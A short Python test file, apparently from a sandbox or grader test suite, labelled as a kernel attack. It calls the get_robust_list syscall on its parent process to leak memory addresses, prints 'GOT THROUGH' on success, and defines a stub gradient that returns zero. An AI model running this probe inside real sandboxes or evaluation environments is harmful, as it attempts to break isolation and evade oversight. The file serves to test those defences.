# attack: kernel
# goal: learn addresses in another process from its list of robust locks
# expect: WRONG_GRADIENT

import ctypes
import os
import platform

LIBC = ctypes.CDLL(None, use_errno=True)
head, length = ctypes.c_void_p(), ctypes.c_size_t()
number = 100 if platform.machine() == "aarch64" else 274
if LIBC.syscall(ctypes.c_long(number), ctypes.c_long(os.getppid()), ctypes.byref(head), ctypes.byref(length)) == 0:
    print("GOT THROUGH", head.value)


def gradient(x):
    return x * 0
